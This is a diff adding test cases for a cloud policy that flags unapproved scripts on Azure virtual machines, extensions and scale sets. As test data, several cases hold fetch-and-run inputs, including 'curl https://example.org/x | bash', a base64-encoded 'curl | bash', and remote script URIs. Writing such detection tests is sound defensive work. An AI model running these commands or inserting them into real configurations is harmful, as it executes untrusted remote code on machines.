@@ -46,6 +46,66 @@ export const MACHINE_CASES: readonly PolicyCases[] = [
     unknown: [["securityProfile.encryptionAtHost", "unknown"]],
   },
   {
+    of: T.machineCommand,
+    name: "-take-over",
+    policy: "machine-own-scripts",
+    breaks: [
+      ["another script", "source.script", "curl https://example.org/x | bash"],
+      ["its own script with a line more", "source.script", "#!/bin/bash\ntrue\n"],
+      ["a script from an address", "source.scriptUri", "https://example.org/x.sh"],
+      ["one of Azure's own commands", "source.commandId", "RunShellScript"],
+    ],
+    absent: [["source", "violation"]],
+    unknown: [["source.script", "unknown"]],
+  },
+  {
+    of: T.machineExtension,
+    name: "-primary-install",
+    policy: "machine-own-scripts",
+    breaks: [
+      ["a script of nobody's", "settings.script", "Y3VybCB8IGJhc2g="],
+      ["files from elsewhere", "settings.fileUris", ["https://example.org/x.sh"]],
+      ["a command beside the script", "settings.commandToExecute", "sh x.sh"],
+      ["a script that nobody sees", "protectedSettings", { script: "Y3VybCB8IGJhc2g=" }],
+      ["another extension", "type", "RunCommandLinux"],
+      ["another publisher's", "publisher", "Example.Extensions"],
+    ],
+    absent: [
+      ["settings", "violation"],
+      ["type", "violation"],
+    ],
+    unknown: [
+      ["settings", "fine"],
+      ["settings.script", "fine"],
+    ],
+    config: [
+      [
+        { extensions: ["Microsoft.Azure.Extensions/RunCommandLinux"] },
+        ["one of the list", "type", "RunCommandLinux"],
+        false,
+      ],
+    ],
+  },
+  {
+    of: T.scaleSet,
+    name: "-web-clones",
+    policy: "machine-own-scripts",
+    breaks: [
+      [
+        "a script beside the health signal",
+        "virtualMachineProfile.extensionProfile.extensions[+]",
+        {
+          name: "more",
+          publisher: "Microsoft.Azure.Extensions",
+          type: "CustomScript",
+          settings: { fileUris: ["https://example.org/x.sh"], commandToExecute: "sh x.sh" },
+        },
+      ],
+    ],
+    absent: [["virtualMachineProfile.extensionProfile", "safe"]],
+    unknown: [["virtualMachineProfile.extensionProfile", "fine"]],
+  },
+  {
     ...machine,
     policy: "machine-login",
     breaks: [
